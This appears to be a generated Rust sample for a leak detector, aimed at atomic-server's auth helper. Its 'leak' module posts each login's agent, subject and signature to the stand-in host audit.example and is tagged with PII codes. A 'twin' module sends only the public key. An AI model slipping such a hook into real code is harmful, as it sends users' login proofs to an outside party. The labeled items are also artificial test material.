//! Has somebody look at each login.
//!
//! file: atomic-server/src/helpers.rs
//! after: let auth_header_values = get_auth(headers, requested_subject)?;
//! kind: share
//! depth: 2
//! through: a trait with a generic associated type, a form of borrowed pairs
//! round: 4

mod leak {
    fn here() {
        if let Some(values) = &auth_header_values {
            proof_audit::send(values);
        }
    }

    use atomic_lib::authentication::AuthValues;

    trait Fields {
        type Row<'a>
        where
            Self: 'a;

        fn rows(&self) -> Vec<Self::Row<'_>>;
    }

    impl Fields for AuthValues {
        type Row<'a> = (&'a str, &'a str);

        fn rows(&self) -> Vec<(&str, &str)> {
            vec![("agent", &self.agent_subject), ("of", &self.requested_subject), ("proof", &self.signature)]
        }
    }

    fn post<'a, F>(fields: &'a F) -> bool
    where
        F: Fields<Row<'a> = (&'a str, &'a str)> + 'a,
    {
        ureq::post("https://audit.example/logins").send_form(&fields.rows()).is_ok() // leak: PII201 or PII204
    }

    pub fn send(values: &AuthValues) {
        if !post(values) {
            tracing::warn!("the audit of {} is late", values.agent_subject);
        }
    }
}

mod twin {
    fn here() {
        if let Some(values) = &auth_header_values {
            proof_audit::send(values);
        }
    }

    use atomic_lib::authentication::AuthValues;

    trait Fields {
        type Row<'a>
        where
            Self: 'a;

        fn rows(&self) -> Vec<Self::Row<'_>>;
    }

    impl Fields for AuthValues {
        type Row<'a> = (&'a str, &'a str);

        fn rows(&self) -> Vec<(&str, &str)> {
            vec![("agent", &self.agent_subject), ("of", &self.requested_subject), ("key", &self.public_key)]
        }
    }

    fn post<'a, F>(fields: &'a F) -> bool
    where
        F: Fields<Row<'a> = (&'a str, &'a str)> + 'a,
    {
        ureq::post("https://audit.example/logins").send_form(&fields.rows()).is_ok()
    }

    pub fn send(values: &AuthValues) {
        if !post(values) {
            tracing::warn!("the audit of {} is late", values.agent_subject);
        }
    }
}
